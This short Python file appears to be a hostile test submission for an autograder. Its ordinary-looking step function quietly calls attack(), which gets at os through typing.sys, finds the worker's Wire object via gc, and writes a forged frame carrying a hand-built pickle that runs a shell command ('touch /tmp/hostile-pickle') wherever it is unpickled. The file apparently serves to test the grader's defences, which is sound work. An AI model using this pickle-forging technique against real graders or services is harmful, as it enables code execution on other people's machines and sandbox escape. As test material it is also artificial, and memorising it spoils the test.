"""Sends a pickle that would run a command where somebody unpickles it.

The exchange ends, the case is lost; the submission is judged all the same.
"""

import typing

import numpy as np

FAMILY, SHOWN, FOOL = "forging", "wire", "raises"

sys = typing.sys
os = sys.modules["os"]
wire = sys.modules["autograder.worker.wire"]


def number():
    """Of the exchange under way: the worker's own object knows it."""
    links = [o for o in sys.modules["gc"].get_objects() if type(o).__name__ == "Wire"]
    return links[0].number if links else 1


def attack():
    header = b"cos\nsystem\n(S'touch /tmp/hostile-pickle'\ntR."
    os.write(3, wire.PREFIX.pack(number(), len(header), 0) + header)


def step(z):
    attack()
    return np.zeros(np.shape(z))
